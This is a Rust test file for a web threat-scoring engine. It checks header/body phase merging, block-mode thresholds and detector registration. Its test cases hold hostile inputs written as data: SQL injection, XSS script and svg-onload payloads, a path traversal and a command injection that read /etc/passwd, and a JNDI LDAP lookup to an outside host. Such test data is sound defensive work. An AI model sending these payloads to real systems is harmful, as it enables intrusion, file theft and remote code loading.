//! The engine's shape: one inspection per request (tag mode's body phase inspects only the
//! body and merges the headers phase), block mode stops at the threshold without changing the
//! verdict, and every detector is registered once.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use threat_score::{Config, DetectorKind, Request, Verdict};

fn h(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

/// (uri, content-type, body): clean, attack in the URI, attack in the body, both.
const CASES: &[(&str, &str, &str)] = &[
    (
        "/api/items?page=2",
        "application/json",
        r#"{"name":"blue shoes","qty":2}"#,
    ),
    (
        "/q?id=1%27%20OR%20%271%27%3D%271",
        "application/json",
        r#"{"name":"x"}"#,
    ),
    (
        "/api/items",
        "application/json",
        r#"{"bio":"<script>alert(1)</script>"}"#,
    ),
    (
        "/f?x=../../etc/passwd",
        "application/x-www-form-urlencoded",
        "cmd=;cat%20/etc/passwd&q=1",
    ),
    (
        "/upload",
        "text/plain",
        "${jndi:ldap://x.example/a} and <svg onload=alert(1)>",
    ),
];

#[test]
fn body_phase_merges_the_headers_phase() {
    let engine = Config::from_json(br#"{"mode": "tag"}"#)
        .unwrap()
        .compile()
        .unwrap();
    for (uri, ct, body) in CASES {
        let headers = h(&[
            ("host", "shop.example"),
            ("content-type", ct),
            ("content-length", &body.len().to_string()),
            ("user-agent", "Mozilla/5.0"),
        ]);
        let without = Request::new("POST", uri).with_headers(&headers);
        let with = without.with_body(body.as_bytes());
        let headers_phase = engine.inspect(&without);
        let once = engine.inspect_body(&with, &headers_phase);
        let full = engine.inspect(&with);
        assert_eq!(once.score, full.score, "{uri} {body}: {once:?} vs {full:?}");
        assert_eq!(once.categories, full.categories, "{uri} {body}");
        assert_eq!(once.verdict, full.verdict, "{uri} {body}");
    }
}

#[test]
fn block_mode_stops_at_the_threshold_with_the_same_verdict() {
    let block = Config::default().compile().unwrap();
    let detect = Config::from_json(br#"{"mode": "detect"}"#)
        .unwrap()
        .compile()
        .unwrap();
    for (uri, ct, body) in CASES {
        let headers = h(&[("host", "shop.example"), ("content-type", ct)]);
        let req = Request::new("POST", uri)
            .with_headers(&headers)
            .with_body(body.as_bytes());
        let b = block.inspect(&req);
        let d = detect.inspect(&req);
        assert_eq!(
            b.verdict == Verdict::Block,
            d.over_threshold,
            "{uri} {body}"
        );
        assert!(b.score <= d.score, "block mode never scores more");
    }
}

#[test]
fn detectors_are_registered_once() {
    let mut names: Vec<&str> = DetectorKind::ALL.iter().map(|k| k.name()).collect();
    let n = names.len();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), n);
    assert_eq!(DetectorKind::ALL.first(), Some(&DetectorKind::Protocol));
}
